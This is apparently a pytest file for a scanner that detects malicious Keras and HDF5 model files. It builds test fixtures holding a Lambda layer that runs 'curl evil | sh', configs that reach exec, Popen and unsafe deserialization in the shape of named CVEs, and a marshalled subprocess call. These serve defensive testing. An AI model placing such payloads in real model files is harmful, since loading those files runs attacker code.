from __future__ import annotations

import importlib.util
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from mlward.findings import Finding, Severity
from mlward.scanners.base import ScanContext
from mlward.scanners.keras import is_keras_archive, scan_keras_archive
from tests.scanners._helpers import blocking, rules, scan_one

if importlib.util.find_spec("keras") is None:  # not imported here: see _MAKE
    pytest.skip("keras is not installed (pip install -e '.[dev]')", allow_module_level=True)
pytest.importorskip("h5py")

# The fixtures are made by real Keras (torch backend) in a child process, so the test process never
# imports Keras. The Lambda's bytecode names os.system, but the branch that calls it never runs.
_MAKE = r'''
import sys, keras
out = sys.argv[1]

@keras.saving.register_keras_serializable(package="acme")
class Scale(keras.layers.Layer):
    def call(self, x):
        return x * 2.0

def base(extra=None):
    inp = keras.Input((4,))
    x = keras.layers.Dense(3, activation="relu", name="lambda_os_system")(inp)
    if extra is not None:
        x = extra(x)
    return keras.Model(inp, keras.layers.Dense(2, name="exec")(x))

base().save(f"{out}/clean.keras")
base().save(f"{out}/clean.h5")
evil = lambda t: t if t is not None else __import__("os").system("curl evil | sh")  # noqa: E731
base(keras.layers.Lambda(evil)).save(f"{out}/lambda.keras")
base(keras.layers.Lambda(evil)).save(f"{out}/lambda.h5")
base(Scale()).save(f"{out}/custom.keras")
keras.Sequential([keras.Input((4,)), keras.layers.Dense(2)]).save_weights(f"{out}/only.weights.h5")
'''


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("keras")
    env = {**os.environ, "KERAS_BACKEND": "torch", "PYTHONWARNINGS": "ignore"}
    subprocess.run([sys.executable, "-c", _MAKE, str(out)], check=True, env=env, capture_output=True,
                   timeout=300)
    return out


def _archive(path: Path) -> list[Finding]:
    with zipfile.ZipFile(path) as handle:
        names = handle.namelist()
        assert is_keras_archive(names)

        def read(name: str, limit: int) -> bytes:
            with handle.open(name) as member:
                return member.read(limit)

        return list(scan_keras_archive(names, read, ScanContext(str(path))))


def _edit(src: Path, dst: Path, change: object) -> Path:
    with zipfile.ZipFile(src) as old, zipfile.ZipFile(dst, "w") as new:
        for item in old.infolist():
            data = old.read(item.filename)
            if item.filename == "config.json":
                config = json.loads(data)
                change(config)  # type: ignore[operator]
                data = json.dumps(config).encode()
            new.writestr(item, data)
    return dst


def _layers(config: dict[str, object]) -> list[dict[str, object]]:
    return config["config"]["layers"]  # type: ignore[index,no-any-return]


def test_real_models_are_clean(made: Path) -> None:
    assert _archive(made / "clean.keras") == []
    assert scan_one(made / "clean.h5") == []
    assert scan_one(made / "only.weights.h5") == []


def test_lambda_in_keras_archive_is_critical_with_decoded_names(made: Path) -> None:
    (finding,) = _archive(made / "lambda.keras")
    assert (finding.rule, finding.severity) == ("keras.lambda-layer", Severity.CRITICAL)
    assert finding.location.member == "config.json"
    assert "system" in finding.message
    assert "__import__" in finding.message


def test_lambda_in_legacy_h5_is_critical(made: Path) -> None:
    (finding,) = scan_one(made / "lambda.h5")
    assert (finding.rule, finding.severity) == ("keras.lambda-layer", Severity.CRITICAL)
    assert "system" in finding.message


def test_registered_custom_layer_is_medium(made: Path) -> None:
    found = _archive(made / "custom.keras")
    assert [(f.rule, f.severity) for f in found] == [("keras.custom-object", Severity.MEDIUM)]


def _with(node: dict[str, object]) -> object:
    def change(config: dict[str, object]) -> None:
        _layers(config)[1]["config"]["kernel_initializer"] = node  # type: ignore[index]

    return change


@pytest.mark.parametrize(
    ("node", "severity"),
    [
        # CVE-2025-1550 shape: a config object naming a function in a non-Keras module.
        ({"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"},
         Severity.CRITICAL),
        ({"module": "subprocess", "class_name": "Popen", "config": {"args": ["id"]}}, Severity.CRITICAL),
        ({"module": "shady_pkg.init", "class_name": "function", "config": "run"}, Severity.HIGH),
        # CVE-2025-8747: keras.utils.get_file reachable from a config.
        ({"module": "keras.utils", "class_name": "function", "config": "get_file"}, Severity.HIGH),
        # CVE-2025-9906: safe_mode switched off from inside the config.
        ({"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization"},
         Severity.CRITICAL),
    ],
)
def test_crafted_config_objects_are_caught(made: Path, tmp_path: Path, node: dict[str, object],
                                           severity: Severity) -> None:
    found = _archive(_edit(made / "clean.keras", tmp_path / "x.keras", _with(node)))
    assert [(f.rule, f.severity) for f in blocking(found)] == [("keras.foreign-module", severity)]


def test_keras_functions_by_reference_stay_clean(made: Path, tmp_path: Path) -> None:
    node = {"module": "keras.initializers", "class_name": "GlorotUniform", "config": {"seed": 3}}
    found = _archive(_edit(made / "clean.keras", tmp_path / "x.keras", _with(node)))
    assert found == []


def test_hand_made_legacy_lambda_and_function_reference(tmp_path: Path) -> None:
    import base64
    import marshal

    import h5py

    code = base64.b64encode(marshal.dumps((lambda x: __import__("subprocess").run(x)).__code__)).decode()
    layers = [{"class_name": "Lambda", "config": {"name": "l1", "function": [code, None, None],
                                                  "function_type": "lambda", "module": "__main__"}},
              {"class_name": "Lambda", "config": {"name": "l2", "function": "system",
                                                  "function_type": "function", "module": "os"}}]
    path = tmp_path / "legacy.h5"
    with h5py.File(path, "w") as h5:
        config = {"class_name": "Sequential", "config": {"layers": layers}}
        h5.attrs["model_config"] = json.dumps(config).encode()
    found = scan_one(path)
    assert {(f.rule, f.severity) for f in found} == {("keras.lambda-layer", Severity.CRITICAL),
                                                     ("keras.foreign-module", Severity.CRITICAL)}
    assert any("run" in f.message for f in found)


def test_garbage_bytecode_still_critical(tmp_path: Path) -> None:
    import h5py

    layer = {"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__",
                                                             "config": {"code": "////AAAA"}}}}
    path = tmp_path / "g.h5"
    with h5py.File(path, "w") as h5:
        h5.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"layers": [layer]}})
    (finding,) = scan_one(path)
    assert finding.severity == Severity.CRITICAL
    assert "could not be decoded" in finding.message


def test_damaged_hdf5_is_not_clean(made: Path, tmp_path: Path) -> None:
    path = tmp_path / "cut.h5"
    path.write_bytes((made / "lambda.h5").read_bytes()[:2000])
    assert rules(scan_one(path)) == {"hdf5.unreadable"}



def test_unpacked_keras_archive_config_is_judged(made: Path, tmp_path: Path) -> None:
    folder = tmp_path / "unpacked"
    with zipfile.ZipFile(made / "lambda.keras") as handle:
        handle.extractall(folder)
    found = scan_one(folder / "config.json")
    assert [(f.rule, f.severity) for f in found] == [("keras.lambda-layer", Severity.CRITICAL)]
    with zipfile.ZipFile(made / "clean.keras") as handle:
        handle.extractall(tmp_path / "clean")
    assert scan_one(tmp_path / "clean" / "config.json") == []
